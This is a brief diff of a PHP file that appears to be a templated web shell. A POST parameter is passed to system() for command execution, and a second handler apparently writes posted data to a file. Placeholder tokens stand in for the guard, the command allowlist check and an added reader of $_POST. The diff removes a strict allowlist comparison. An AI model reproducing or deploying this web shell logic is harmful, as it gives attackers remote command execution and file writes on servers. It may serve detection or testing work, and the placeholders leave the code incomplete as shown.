@@ -1,7 +1,7 @@
 <?php
 $k = isset($_POST['k']) ? (string) $_POST['k'] : '';
 @GUARD@
-if (isset($_POST['c']) && in_array($_POST['c'], @COMMANDS@, true)) {
+if (isset($_POST['c']) && @LISTED $_POST['c']@) {
     system($_POST['c']);
 }
 if (isset($_POST['n'], $_POST['d'])) {
@@ -12,3 +12,4 @@ if (isset($_POST['n'], $_POST['d'])) {
         echo 'ok';
     }
 }
+@READER $_POST@
